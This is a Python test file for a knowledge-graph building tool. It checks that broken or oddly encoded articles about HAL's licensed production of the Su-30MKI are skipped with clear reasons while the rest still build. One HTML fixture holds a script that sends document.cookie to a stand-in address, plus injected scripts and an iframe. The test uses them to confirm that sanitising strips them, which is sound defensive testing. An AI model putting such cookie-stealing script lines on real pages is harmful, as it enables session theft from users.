"""Bad input loses nothing: every kind of broken article gets a clear one-line reason in the
report, and every other article still builds.

The inputs: empty and blank files, binary files, Windows-1252, Latin-1, UTF-8 with a BOM,
UTF-16, mostly-UTF-8 with a broken byte, mixed line endings, control characters, a long
single line with no full stop, a page with scripts and iframes, file names with spaces,
non-ASCII and non-UTF-8 bytes, symbolic-link loops, broken links, unreadable files and
folders. (A 50 MB single line is measured by fuzz/bad_inputs.py, not here: it takes minutes.)
"""

from __future__ import annotations

import builtins
import csv
import json
import os
import time
from pathlib import Path

import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

from kg import documents
from kg.cli import app
from kg.documents import (
    MAX_SENTENCE_CHARS,
    Cleaning,
    decode,
    find_articles,
    read_document,
    split_sentences,
)
from kg.errors import DocumentError

runner = CliRunner()
FACT = ("Rosoboronexport menandatangani kontrak dengan Hindustan Aeronautics Limited (HAL) "
        "pada tahun 2000 untuk produksi berlisensi Su-30MKI di India.")
ROOT_CANNOT_BE_LOCKED_OUT = hasattr(os, "geteuid") and os.geteuid() == 0

PAGE = f"""<!DOCTYPE html><html><head><title>HAL dan Rosoboronexport</title>
<script>fetch("http://127.0.0.1:9/steal?c=" + document.cookie)</script>
<script src="http://127.0.0.1:9/tracker.js"></script></head>
<body><nav>Beranda | Berita</nav><article><h1>HAL dan Rosoboronexport</h1>
<p>{FACT}</p>
<iframe src="http://127.0.0.1:9/ad.html" onload="alert(1)"></iframe>
<p>Kerja sama kedua negara sudah berjalan lebih dari dua dekade dan terus diperluas hingga kini.</p>
<script>document.write('<p>INJECTED</p>')</script></article></body></html>"""


def good_articles(d: Path) -> dict[str, bytes]:
    """Articles that must build, each in its own odd form; name -> bytes."""
    latin = f"Laporan dari Bogotá, São Paulo dan Düsseldorf. {FACT}\n"
    arts = {
        "plain.txt": f"{FACT}\n".encode(),
        "cp1252.txt": f"“Kutipan” — Bogotá. {FACT}\r\n".encode("cp1252"),
        "latin1.txt": latin.encode("latin-1"),
        "cp1252-undefined-byte.txt": b"Kutipan \x81 aneh. " + FACT.encode("cp1252") + b"\n",
        "bom.md": b"\xef\xbb\xbf" + f"{FACT}\r\n".encode(),
        "utf16.txt": f"{FACT}\n".encode("utf-16"),
        "mostly-utf8.txt": f"Berita Indonésia dari Jakarta — “ulasan”. {FACT}\n".encode() + b"\xff broken\n",
        "mixed-endings.txt": f"Baris satu tanpa arti.\r\n{FACT}\rBaris tiga.\nBaris empat.\r\n".encode(),
        "controls.txt": f"Teks\x0bdengan\x0ckarakter\x07kontrol. {FACT}\x1b\n".encode(),
        "long line no stop.txt": (("kata " * 5000) + FACT + " " + "lagi " * 5000).encode(),
        "berita rusia é ü 日本.md": f"{FACT}\n".encode(),
        "page.html": PAGE.encode(),
    }
    for name, data in arts.items():
        (d / name).write_bytes(data)
    bad_name = os.fsencode(str(d)) + b"/berita-\xff\xfe-nama.txt"  # not UTF-8: a Latin-1 file name
    with open(bad_name, "wb") as fh:
        fh.write(f"{FACT}\n".encode())
    return arts


BAD = {  # name -> (bytes or None for a special file, words the reason must contain)
    "empty.txt": (b"", "empty file"),
    "blank.md": (b"  \n\t\r\n", "empty file"),
    "nul.txt": (b"teks\x00biner" * 10, "binary file"),
    "image.md": (bytes(range(1, 32)) * 100, "binary file"),
    "boilerplate-only.md": (b"BACA JUGA: berita lain\nFoto: redaksi\n", "no text after removing"),
    "empty.html": (b"<html><body><script>x()</script><iframe src='http://127.0.0.1:9/'></iframe></body></html>", "no article text"),
    # YAML reads the date, then cannot make it: once, this one article stopped the whole build
    "impossible-date.md": (b"---\ntitle: x\ndate: 2019-13-45\n---\nRusia dan India.\n", "bad YAML front matter: month must be"),
    "impossible-date-yaml.md": (b"---\ntitle: [x]\ndate: 2019-02-30\n---\nRusia dan India.\n", "bad YAML front matter: day is out of range"),
    "loop-a.txt": (None, "symbolic link loop"),
    "dangling.txt": (None, "broken symbolic link"),
    "locked.txt": (None, "cannot read: Permission denied"),
    "locked-folder": (None, "cannot open this folder"),
}


def bad_articles(d: Path) -> None:
    for name, (data, _) in BAD.items():
        if data is not None:
            (d / name).write_bytes(data)
    os.symlink("loop-b.txt", d / "loop-a.txt")
    os.symlink("loop-a.txt", d / "loop-b.txt")
    os.symlink("nowhere.txt", d / "dangling.txt")
    (d / "locked.txt").write_bytes(f"{FACT}\n".encode())
    (d / "locked-folder").mkdir()
    (d / "locked-folder" / "inside.txt").write_bytes(f"{FACT}\n".encode())
    os.chmod(d / "locked.txt", 0)
    os.chmod(d / "locked-folder", 0)


@pytest.fixture
def deny(monkeypatch):
    """Make chmod 000 bite when the tests run as root (root reads any file): opening a file
    or listing a folder whose mode is 000 raises PermissionError, as it would for a user."""
    if not ROOT_CANNOT_BE_LOCKED_OUT:
        return

    def denied(p) -> bool:
        try:
            return os.stat(p).st_mode & 0o777 == 0
        except (OSError, TypeError, ValueError):
            return False

    real_open, real_scandir, real_listdir = builtins.open, os.scandir, os.listdir

    def fake_open(file, *a, **k):
        if isinstance(file, (str, bytes, os.PathLike)) and denied(file):
            raise PermissionError(13, "Permission denied", os.fsdecode(file))
        return real_open(file, *a, **k)

    def fake_scandir(path="."):
        if denied(path):
            raise PermissionError(13, "Permission denied", os.fsdecode(path))
        return real_scandir(path)

    def fake_listdir(path="."):
        if denied(path):
            raise PermissionError(13, "Permission denied", os.fsdecode(path))
        return real_listdir(path)

    monkeypatch.setattr(documents, "open", fake_open, raising=False)
    monkeypatch.setattr(os, "scandir", fake_scandir)
    monkeypatch.setattr(os, "listdir", fake_listdir)


@pytest.fixture
def corpus(tmp_path, deny):
    d = tmp_path / "in"
    d.mkdir()
    arts = good_articles(d)
    bad_articles(d)
    yield d, arts
    os.chmod(d / "locked.txt", 0o644)
    os.chmod(d / "locked-folder", 0o755)


def test_every_bad_input_is_skipped_with_its_reason_and_the_rest_builds(corpus, tmp_path):
    d, arts = corpus
    out = tmp_path / "out"
    started = time.monotonic()
    res = runner.invoke(app, ["build", str(d), "--out", str(out), "--quiet", "--workers", "1", "--no-cache"])
    assert res.exit_code == 0, res.output
    assert time.monotonic() - started < 120

    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    skipped = {Path(s["path"]).name: s["reason"] for s in report["summary"]["skipped"]}
    for name, (_, reason) in BAD.items():
        assert name in skipped, (name, skipped)
        assert reason in skipped[name], (name, skipped[name])
        assert "\n" not in skipped[name]
    md = (out / "report.md").read_text(encoding="utf-8")
    for name in BAD:
        assert name in md
    # every odd-but-good article was read and gave the fact
    with open(out / "facts.csv", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    sources = {src for r in rows if r["predicate"].endswith("licensedProducerOf") and r["object"].endswith("Su-30MKI")
               for src in r["source"].split(";")}
    for name in arts:
        assert name in sources, (name, sorted(sources))
    assert "berita-\ufffd\ufffd-nama.txt" in sources  # a non-UTF-8 name survives, readably
    assert not [n for n in skipped if n in arts]
    # the one-line messages on stderr name each skipped file
    for name in BAD:
        assert any(line.startswith("skipped ") and name in line for line in res.stderr.splitlines()), name
    # the page's scripts, iframes and their addresses reach no output
    for name in ("graph.nq", "facts.csv", "graph.html", "report.md", "graph.jsonld"):
        data = (out / name).read_text(encoding="utf-8")
        for bad in ("document.cookie", "INJECTED", "tracker.js", "127.0.0.1:9", "alert(1)"):
            assert bad not in data, (name, bad)
    # and every output still parses strictly
    for name, fmt in (("graph.nq", ox.RdfFormat.N_QUADS), ("graph.trig", ox.RdfFormat.TRIG),
                      ("graph.ttl", ox.RdfFormat.TURTLE), ("graph.jsonld", ox.RdfFormat.JSON_LD)):
        assert sum(1 for _ in ox.parse(path=str(out / name), format=fmt)) > 0


def test_strict_turns_skipped_inputs_into_exit_1(corpus, tmp_path):
    d, _ = corpus
    res = runner.invoke(app, ["build", str(d), "--out", str(tmp_path / "o"), "--quiet", "--strict", "--workers", "1", "--no-cache"])
    assert res.exit_code == 1


@pytest.mark.parametrize("data,text", [
    (b"\xef\xbb\xbfA\r\nB\rC\n", "A\nB\nC\n"),
    ("Bogotá “x”".encode("cp1252"), "Bogotá “x”"),
    ("São Düsseldorf".encode("latin-1"), "São Düsseldorf"),
    ("Uji teks".encode("utf-16-le").join([b"\xff\xfe", b""]), "Uji teks"),
    ("Uji teks".encode("utf-16-be").join([b"\xfe\xff", b""]), "Uji teks"),
    (b"a\x81b", "a\ufffdb"),
    ("Indonésia “ok” é ü ö".encode() + b" \xff", "Indonésia “ok” é ü ö \ufffd"),
    (b"tab\there\x0bvt\x0cff\x1besc", "tab\there vt ff esc"),
])
def test_decode_forms(data, text):
    assert decode(Path("x.txt"), data) == text


def test_symlink_given_directly_is_reported_not_missing(tmp_path, pack):
    os.symlink("b.txt", tmp_path / "a.txt")
    os.symlink("a.txt", tmp_path / "b.txt")
    assert find_articles([tmp_path / "a.txt"]) == [tmp_path / "a.txt"]
    with pytest.raises(DocumentError, match="symbolic link loop"):
        read_document(tmp_path / "a.txt", pack.cleaning)


def test_folder_symlink_loops_are_not_followed(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "a.txt").write_text(FACT)
    os.symlink("..", tmp_path / "sub" / "up")
    os.symlink(tmp_path, tmp_path / "sub" / "again")
    assert find_articles([tmp_path]) == [tmp_path / "sub" / "a.txt"]


def test_too_large_articles_are_skipped_unread(tmp_path, pack, monkeypatch):
    monkeypatch.setattr(documents, "MAX_ARTICLE_BYTES", 1000)
    p = tmp_path / "big.txt"
    p.write_bytes(b"kata " * 400)
    with pytest.raises(DocumentError, match=r"too large \(0 MB; the limit is 0 MB\)"):
        read_document(p, pack.cleaning)


def test_a_long_single_line_is_read_in_bounded_time_and_pieces(pack):
    text = "kata " * 1_600_000  # 8 MB, no full stop, one line
    started = time.monotonic()
    sentences = split_sentences(text, 0, pack.cleaning)
    took = time.monotonic() - started
    assert took < 20, took
    assert max(len(s.text) for s in sentences) <= MAX_SENTENCE_CHARS
    assert all(text[s.start : s.end] == s.text for s in sentences[:50])
    assert sentences[0].start == 0 and sentences[-1].end == len(text.rstrip())
    blob = "x" * 100_000  # no white space at all: cut hard
    parts = split_sentences(blob, 0, Cleaning())
    assert "".join(s.text for s in parts) == blob and all(len(s.text) <= MAX_SENTENCE_CHARS for s in parts)


def test_a_repeated_sentence_costs_linear_time(pack):
    """Spam that repeats one fact thousands of times: extraction and merging stay linear."""
    from kg.documents import Document
    from kg.extract import extract_document

    def run(n):
        text = (FACT + " ") * n
        doc = Document("spam.txt", "spam", text, {}, split_sentences(text, 0, pack.cleaning))
        started = time.monotonic()
        facts = extract_document(doc, pack).facts
        return time.monotonic() - started, facts

    small, _ = run(200)
    large, facts = run(1600)
    assert len(facts[0].evidence) == 1600 or any(len(f.evidence) == 1600 for f in facts)
    assert large < max(small, 0.05) * 8 * 3, (small, large)  # linear, with room for noise
